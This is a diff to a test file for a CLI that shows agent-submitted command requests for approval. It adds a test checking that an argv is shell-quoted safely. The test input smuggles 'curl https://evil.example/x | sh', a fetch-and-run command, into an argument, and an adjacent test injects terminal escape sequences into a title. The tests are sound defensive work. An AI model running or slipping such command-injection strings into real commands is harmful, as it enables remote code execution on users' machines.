@@ -244,6 +244,12 @@ describe('countersign CLI: requests against a real daemon', { timeout: 60_000 },
     expect((await cli(['show', same.id])).stdout).not.toContain('argv');
   });
 
+  it('show prints an argv without a shell line as the inbox does, a word that is not plain quoted', async () => {
+    const argv = ['echo', 'done; curl https://evil.example/x | sh', "it's"];
+    const only = (await t.api.post('/v1/requests', { title: 'Say', kind: 'command', previews: [{ type: 'command', command: { argv } }] })).body;
+    expect((await cli(['show', only.id])).stdout).toContain(`  $ echo 'done; curl https://evil.example/x | sh' 'it'\\''s'\n`);
+  });
+
   it('never prints terminal escape sequences an agent put in a title', async () => {
     const created = await ask('--title', 'safe\u001b[2J\u001b]0;pwned\u0007 title\rfake');
     const shown = await cli(['show', created.id]);
